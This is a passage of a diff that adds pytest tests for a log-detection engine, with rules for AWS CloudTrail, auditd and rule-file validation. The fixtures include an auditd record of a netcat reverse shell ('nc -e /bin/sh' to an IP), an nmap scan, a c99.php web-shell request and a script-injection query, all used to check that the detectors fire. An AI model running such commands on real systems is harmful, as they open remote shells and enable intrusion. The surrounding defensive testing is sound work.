+    assert "lw-aws-console-login-bruteforce" in fired(Detector(rules).scan([failure] * 5))
+
+
+def test_root_account_use_but_not_aws_service_events(detector):
+    root = {"type": "Root", "arn": "arn:aws:iam::123456789012:root", "accountId": "123456789012"}
+    used = ct("CreateUser", identity=root, requestParameters={"userName": "ops"})
+    service = ct("AssumeRole", source="sts.amazonaws.com", identity=root, eventType="AwsServiceEvent")
+    assert "lw-aws-root-account-usage" in fired(detector.scan([used]))
+    assert detector.scan([service]) == []
+
+
+@pytest.mark.parametrize("event_name", ["StopLogging", "DeleteTrail", "UpdateTrail"])
+def test_cloudtrail_tampering(detector, event_name):
+    event = ct(event_name, source="cloudtrail.amazonaws.com", requestParameters={"name": "org-trail"})
+    assert [(s.rule_id, s.level) for s in detector.scan([event])] == [("lw-aws-cloudtrail-tampering", "high")]
+
+
+def test_bucket_made_public_by_policy_or_acl_but_not_by_a_private_policy(detector):
+    public_policy = {"bucketName": "corp-backups", "bucketPolicy": {"Version": "2012-10-17", "Statement": [
+        {"Effect": "Allow", "Principal": "*", "Action": "s3:GetObject", "Resource": "arn:aws:s3:::corp-backups/*"}]}}
+    private_policy = {"bucketName": "corp-logs", "bucketPolicy": {"Statement": [
+        {"Effect": "Allow", "Principal": {"AWS": "arn:aws:iam::123456789012:role/logger"}, "Action": "s3:PutObject"}]}}
+    public_acl = {"bucketName": "corp-web", "AccessControlPolicy": {"AccessControlList": {"Grant": [
+        {"Grantee": {"xsi:type": "Group", "URI": "http://acs.amazonaws.com/groups/global/AllUsers"},
+         "Permission": "READ"}]}}}
+    s3 = "s3.amazonaws.com"
+    assert fired(detector.scan([ct("PutBucketPolicy", source=s3, requestParameters=public_policy)])) == {
+        "lw-aws-s3-bucket-made-public"}
+    assert fired(detector.scan([ct("PutBucketAcl", source=s3, requestParameters=public_acl)])) == {
+        "lw-aws-s3-bucket-made-public"}
+    assert detector.scan([ct("PutBucketPolicy", source=s3, requestParameters=private_policy)]) == []
+    denied = ct("PutBucketPolicy", source=s3, requestParameters=public_policy, errorCode="AccessDenied")
+    assert detector.scan([denied]) == []
+    deleted = ct("DeleteBucketPolicy", source=s3, requestParameters={"bucketName": "corp-backups"})
+    assert [s.key for s in detector.scan([deleted])] == ["corp-backups"]
+
+
+def test_access_key_for_another_user_but_not_for_oneself(detector):
+    other = ct("CreateAccessKey", requestParameters={"userName": "bob"},
+               responseElements={"accessKey": {"userName": "bob", "status": "Active"}})
+    own = ct("CreateAccessKey", requestParameters={"userName": "alice"})
+    assert [s.rule_id for s in detector.scan([other])] == ["lw-aws-access-key-for-other-user"]
+    assert detector.scan([own]) == []
+
+
+def test_administrator_access_attached_but_not_read_only(detector):
+    admin = ct("AttachUserPolicy", requestParameters={
+        "userName": "eve", "policyArn": "arn:aws:iam::aws:policy/AdministratorAccess"})
+    read_only = ct("AttachUserPolicy", requestParameters={
+        "userName": "eve", "policyArn": "arn:aws:iam::aws:policy/ReadOnlyAccess"})
+    signals = detector.scan([admin])
+    assert [(s.rule_id, s.level, s.key) for s in signals] == [("lw-aws-admin-policy-attached", "high", "eve")]
+    assert detector.scan([read_only]) == []
+
+
+# --- auditd ----------------------------------------------------------------------------------------
+
+
+def test_auditd_failed_login_burst(detector):
+    lines = [f"type=USER_LOGIN msg=audit(1700000{i:03d}.123:{700 + i}): pid=2212 uid=0 auid=4294967295 "
+             f"ses=4294967295 subj=system_u:system_r:sshd_t:s0-s0:c0.c1023 msg='op=login acct=\"root\" "
+             f"exe=\"/usr/sbin/sshd\" hostname=? addr=45.95.147.236 terminal=ssh res=failed'" for i in range(5)]
+    signal = by_rule(detector.scan([auditd(line, n) for n, line in enumerate(lines, 1)]), "lw-auditd-auth-failure-burst")
+    assert signal[0].key == "45.95.147.236" and signal[0].line_numbers == [1, 2, 3, 4, 5]
+
+
+def test_auditd_execve_of_netcat_and_recon_tools(detector):
+    nc = auditd('type=EXECVE msg=audit(1700000100.001:900): argc=4 a0="nc" a1="-e" a2="/bin/sh" a3="198.51.100.9"')
+    nmap = auditd('type=EXECVE msg=audit(1700000100.002:901): argc=3 a0="/usr/bin/nmap" a1="-sS" a2="10.0.0.0/24"', 2)
+    ls = auditd('type=EXECVE msg=audit(1700000100.003:902): argc=2 a0="ls" a1="-la"', 3)
+    assert fired(detector.scan([nc])) == {"lw-auditd-reverse-shell-tool"}
+    assert fired(detector.scan([nmap])) == {"lw-auditd-recon-tool"}
+    assert detector.scan([ls]) == []
+
+
+# --- engine properties -----------------------------------------------------------------------------
+
+
+def test_state_is_bounded_by_the_key_cap(rules):
+    detector = Detector(rules, max_keys_per_rule=10)
+    events = [ssh_lines(f"Failed password for root from 10.0.{i // 250}.{i % 250} port 22 ssh2", 1, start=i)[0]
+              for i in range(1, 300)]
+    detector.scan(events)
+    assert max(len(states) for states in detector._states.values()) <= 10
+
+
+def test_signals_are_ordered_by_source_and_first_line(detector):
+    events = [web("GET /c99.php HTTP/1.1", status=404, line_no=5),
+              web("GET /?q=%3Cscript%3E HTTP/1.1", line_no=2, ip="198.51.100.4")]
+    assert [s.line_numbers[0] for s in detector.scan(events)] == [2, 5]
+
+
+def test_events_without_timestamps_use_the_last_known_time(rules):
+    events = ssh_lines(FAILED, 6)
+    for event in events[1:]:
+        event.ts = None
+    assert by_rule(Detector(rules).scan(events), "lw-ssh-bruteforce")[0].line_numbers == [1, 2, 3, 4, 5, 6]
+
+
+# --- rule files ------------------------------------------------------------------------------------
+
+
+def test_shipped_rules_are_valid_unique_and_cheap_to_evaluate(rules):
+    assert len(rules) >= 50
+    assert len({r.id for r in rules}) == len(rules)
+    for rule in rules:
+        assert rule.formats, f"{rule.id}: pin the formats so the rule is not evaluated on every line"
+        for group in rule.match.groups:
+            if any(c.op == "re" for c in group):  # a regex only runs behind a cheaper test
+                assert group[0].op != "re", rule.id
+
+
+def _write(tmp_path: Path, text: str) -> Path:
+    path = tmp_path / "rules.yaml"
+    path.write_text(text)
+    return path
+
+
+RULE = """
+- id: my-rule
+  title: My rule
+  level: {level}
+  category: {category}
+  formats: [syslog]
+  match:
+    {condition}
+"""
+
+
+@pytest.mark.parametrize("level, category, condition, message", [
+    ("loud", "brute_force", "message|contains: x", "my-rule"),
+    ("high", "hacking", "message|contains: x", "category 'hacking' is not one of"),
+    ("high", "brute_force", "message|re: '(unclosed'", "my-rule"),
+    ("high", "brute_force", "message|fuzzy: x", "use field, field|op"),
+])
+def test_bad_rules_are_reported_with_file_and_rule_id(tmp_path, level, category, condition, message):
+    path = _write(tmp_path, RULE.format(level=level, category=category, condition=condition))
+    with pytest.raises(ConfigError) as err:
+        load_rules([path])
+    assert message in str(err.value) and str(path) in str(err.value)
+
+
+def test_bad_yaml_and_duplicate_ids_are_config_errors(tmp_path):
+    with pytest.raises(ConfigError, match="not valid YAML"):
+        load_rules([_write(tmp_path, "- id: [unclosed")])
+    one = RULE.format(level="informational", category="benign", condition="message|contains: x")
+    with pytest.raises(ConfigError, match="duplicates"):
+        load_rules([_write(tmp_path, one + one)])
+
+
+def test_custom_rule_file_with_informational_level_and_case_sensitivity(tmp_path):
+    path = _write(tmp_path, """
+rules:
+  - id: local-cron-ran
+    title: Cron job ran
+    level: informational
+    category: benign
+    tags: [attack.execution, attack.t1053.003]
+    formats: [syslog]
+    case_sensitive: true
+    key: host
+    match:
+      program: CRON
+      message|contains: CMD
+""")
+    [rule] = load_rules([path])
+    detector = Detector([rule])
+    signal = detector.scan([syslog("Mar 10 07:17:01 web1 CRON[6204]: (root) CMD (run-parts /etc/cron.hourly)")])[0]
+    assert (signal.level, signal.techniques, signal.key) == ("info", ["T1053.003"], "web1")
+    assert detector.scan([syslog("Mar 10 07:17:01 web1 CRON[6204]: (root) cmd (x)")]) == []
